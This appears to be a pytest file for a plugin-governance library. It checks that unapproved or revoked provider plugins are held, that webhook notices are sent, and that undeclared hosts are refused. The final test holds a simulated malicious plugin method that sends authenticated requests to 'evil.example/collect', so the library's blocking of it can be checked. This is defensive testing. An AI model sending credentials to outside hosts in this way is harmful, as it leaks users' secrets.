"""A backend that holds plugins: over the real service, with an installed plugin and its sandbox."""

from __future__ import annotations

import asyncio
import base64
import importlib
import json
import sys
import zipfile
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import attrs
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from tests.compatibility.build_wheel import WHEEL

from brokersync import BrokerConfigError, BrokerHeldError, BrokerSync, ConnectionState, Done, ProviderRegistry, Settings
from brokersync.events import BrokerHeld, Event, HostRefused, PluginSeen
from brokersync.governance_settings import GovernanceMode, GovernanceSettings
from brokersync.sandboxes import SandboxSettings
from brokersync.testing import RunningSandbox, run_sandbox

NOW = datetime(2026, 3, 1, tzinfo=UTC)
SECRET = "whsec_" + base64.b64encode(bytes(range(32))).decode()


@pytest.fixture
def installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The plugin `kept`, as an installer leaves it."""
    site = tmp_path / "site"
    with zipfile.ZipFile(WHEEL) as pack:
        pack.extractall(site)
    monkeypatch.syspath_prepend(site)
    importlib.invalidate_caches()
    yield site
    for name in [name for name in sys.modules if name.partition(".")[0] == "brokersync_kept"]:
        del sys.modules[name]


@attrs.define
class Hook:
    """A receiver of notices that can be dead."""

    url: str = ""
    dead: bool = False
    told: list[dict[str, Any]] = attrs.field(factory=list)

    async def take(self, request: web.Request) -> web.Response:
        if self.dead:
            await asyncio.sleep(3600)
        self.told.append(json.loads(await request.read()))
        return web.Response(status=204)


@pytest.fixture
async def hook() -> AsyncIterator[Hook]:
    made = Hook()
    app = web.Application()
    app.router.add_post("/", made.take)
    server = TestServer(app)
    await server.start_server()
    made.url = str(server.make_url("/"))
    yield made
    await server.close()


@pytest.fixture
async def broker(installed: Path) -> AsyncIterator[RunningSandbox]:
    settings = SandboxSettings(now=lambda: datetime.now(UTC), days=40, keeps_limits=False)
    async with run_sandbox("kept", settings=settings) as running:
        yield running


@pytest.fixture
def settings(broker: RunningSandbox, hook: Hook, tmp_path: Path) -> Settings:
    governance = GovernanceSettings(
        mode=GovernanceMode.APPROVE,
        approvals=str(tmp_path / "approvals.json"),
        webhook=hook.url,
        webhook_secret=SECRET,
    )
    return broker.settings(Settings(governance=governance))


def approve(settings: Settings) -> None:
    registry = ProviderRegistry.installed(settings)
    registry.gate.approvals.approve(registry.facts("kept"), NOW)


async def test_a_held_broker_is_told_of_and_works_once_it_is_approved(
    broker: RunningSandbox, settings: Settings, hook: Hook, tmp_path: Path
) -> None:
    heard: list[Event] = []
    async with BrokerSync.open(tmp_path / "store.db", settings=settings, events=heard.append) as bs:
        with pytest.raises(BrokerHeldError) as held:
            await bs.connect("kept", owner="ann", fields=broker.logins[0].fields)
        assert "brokersync providers approve kept" in held.value.remedy
        approve(settings)
        one = await bs.connect("kept", owner="ann", fields=broker.logins[0].fields)
        assert isinstance(await bs.run(one.connection_id), Done)
    assert [event.state for event in heard if isinstance(event, PluginSeen) and event.provider == "kept"] == ["held"]
    assert len([event for event in heard if isinstance(event, BrokerHeld)]) == 1
    kinds = [body["type"] for body in hook.told if body["data"].get("provider", "kept") == "kept"]
    assert kinds == ["webhook.test", "provider.seen", "provider.held"]


async def test_a_connection_whose_broker_is_revoked_needs_its_operator_and_goes_on_after_approval(
    broker: RunningSandbox, settings: Settings, tmp_path: Path
) -> None:
    approve(settings)
    async with BrokerSync.open(tmp_path / "store.db", settings=settings) as bs:
        one = await bs.connect("kept", owner="ann", fields=broker.logins[0].fields)
        await bs.run(one.connection_id)
        bs.registry.gate.approvals.revoke("kept", NOW)
        with pytest.raises(BrokerHeldError, match="revoked"):
            await bs.run(one.connection_id)
        waiting = await bs.connection(one.connection_id, "ann")
        assert waiting.state is ConnectionState.NEEDS_OPERATOR
        assert "providers approve kept" in (waiting.remedy or "")
        approve(settings)
        assert isinstance(await bs.run(one.connection_id), Done)
        assert (await bs.connection(one.connection_id, "ann")).state is ConnectionState.ACTIVE


async def test_a_dead_webhook_holds_up_no_sync(
    broker: RunningSandbox, settings: Settings, hook: Hook, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("brokersync.watching._GRACE", 0.01)
    approve(settings)
    async with BrokerSync.open(tmp_path / "store.db", settings=settings):
        pass  # the target is tested
    hook.dead = True
    async with asyncio.timeout(60), BrokerSync.open(tmp_path / "store.db", settings=settings) as bs:
        one = await bs.connect("kept", owner="ann", fields=broker.logins[0].fields)
        assert isinstance(await bs.run(one.connection_id), Done)


async def test_it_does_not_start_where_nobody_is_told(settings: Settings, tmp_path: Path) -> None:
    alone = attrs.evolve(settings, governance=attrs.evolve(settings.governance, webhook=None))
    with pytest.raises(BrokerConfigError, match="needs somebody who is told"):
        async with BrokerSync.open(tmp_path / "store.db", settings=alone):
            pass
    # nothing of it is left open: the same place opens
    async with BrokerSync.open(tmp_path / "store.db", settings=attrs.evolve(alone, governance=GovernanceSettings())):
        pass


async def test_a_host_that_was_not_declared_reaches_the_webhook(
    broker: RunningSandbox, settings: Settings, hook: Hook, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    approve(settings)
    heard: list[Event] = []
    async with BrokerSync.open(tmp_path / "store.db", settings=settings, events=heard.append) as bs:
        client = importlib.import_module("brokersync_kept.client")
        monkeypatch.setattr(client, "_check", None)

        async def leak(self: Any, operation: str, path: str, auth: Any, **params: str) -> Any:
            return await self._context.http.request(operation, "GET", "https://evil.example/collect", auth=auth)

        monkeypatch.setattr(client.ToyClient, "get", leak)
        with pytest.raises(BrokerConfigError, match=r"evil\.example"):
            await bs.connect("kept", owner="ann", fields=broker.logins[0].fields)
    (told,) = [event for event in heard if isinstance(event, HostRefused)]
    assert told.host == "evil.example"
    (body,) = [body for body in hook.told if body["type"] == "host.refused"]
    assert body["data"]["host"] == "evil.example"
